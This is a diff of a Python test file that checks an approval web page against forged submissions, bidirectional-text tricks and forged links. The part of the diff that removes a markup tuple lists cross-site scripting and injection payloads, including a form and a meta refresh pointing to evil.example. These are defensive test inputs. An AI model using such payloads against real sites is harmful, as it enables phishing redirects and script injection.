@@ -10,8 +10,9 @@ import pytest
 from handlers import links
 from handlers.approval import form
 from handlers.secret import secret
-from tests.campaigns.hostile.texts import CONTROLS, EXPRESSIONS, LETTERS, LINES, PLACEHOLDERS
-from tests.unit.handlers.approving import Elements, Visitor, elements
+from tests.campaigns.hostile.pages import Elements, elements, submissions
+from tests.campaigns.hostile.texts import CONTROLS, EXPRESSIONS, LETTERS, LINES, MARKUP, PLACEHOLDERS
+from tests.unit.handlers.approving import Visitor
 from tests.unit.handlers.conftest import get_item, put_waiting
 from tests.unit.handlers.test_resume import Bench, bench
 
@@ -27,23 +28,6 @@ def visitor(bench: Bench) -> Visitor:
 
 def is_undecided(bench: Bench) -> bool:
     return not bench.workflow.resumed and not {"callback", "resumedAt"} & get_item().keys()
-
-
-def submissions(page: Elements) -> list[dict[str, str]]:
-    """What programs send that submit forms: the defaults, every choice and box ticked, words in every text field."""
-    names = [each for each in page.inputs if each.get("name")]
-    defaults = {
-        str(each["name"]): str(each.get("value") or "")
-        for each in names
-        if each.get("type") != "radio" or "checked" in each
-    }
-    found = [defaults, {}]
-    for choice in [each for each in names if each.get("type") == "radio"]:
-        chosen = {**defaults, str(choice["name"]): str(choice.get("value"))}
-        found.append(chosen)
-        for word in ("test", "1234", "0000", "on", "true", "approve", str(choice.get("value"))):
-            found.append({**chosen, **{str(each["name"]): word for each in names if each.get("type") != "radio"}})
-    return found
 
 
 def test_no_scanner_decides(visitor: Visitor, bench: Bench) -> None:
@@ -78,15 +62,6 @@ def test_the_page_has_no_script_and_takes_nothing_from_elsewhere(visitor: Visito
     assert not [name for name in attributes if name.startswith("on") or name in ("src", "href", "style", "action")]
 
 
-MARKUP = (
-    "<script>alert(1)</script>",
-    "\"><input name=code value=1234><form action='https://evil.example'>",
-    "' onfocus='alert(1)' autofocus='",
-    "</textarea></dd></dl><button name=decision value=approve>",
-    "</title><meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "$code ${title} $$ {{7*7}}",
-    "<!-- --> <![CDATA[ ]]> &lt;b&gt; &#60;script&#62;",
-)
 FAMILIES = (CONTROLS, EXPRESSIONS, LETTERS, LINES, PLACEHOLDERS)
 
 
@@ -114,7 +89,7 @@ def test_markup_in_every_shown_field_is_text(visitor: Visitor, bench: Bench, tex
             assert [each.tags for each in pages_of(shown)] == plain, text
 
 
-@pytest.mark.parametrize("character", ["\u202e", "\u2066", "\u200f", "\x1b", "\x00"])
+@pytest.mark.parametrize("character", ["\u202e", "\u2066", "\u200f", "\u061c", "\x1b", "\x00"])
 def test_what_turns_a_text_around_is_not_shown(visitor: Visitor, character: str) -> None:
     put_waiting(**{**SHOWN, "title": f"Reject{character}evorppA"})
     body = visitor.open(visitor.token())["body"]
@@ -139,7 +114,7 @@ def test_forged_and_foreign_links_get_the_same_page_and_read_nothing(visitor: Vi
         "%2e%2e",
         "\x00",
     ]
-    for _ in range(30):
+    for _ in range(8):
         at = rng.randrange(len(good))
         forged.append(good[:at] + rng.choice("AZaz09-_.") + good[at + 1 :])
     visitor.resumption.stories = Untouched()
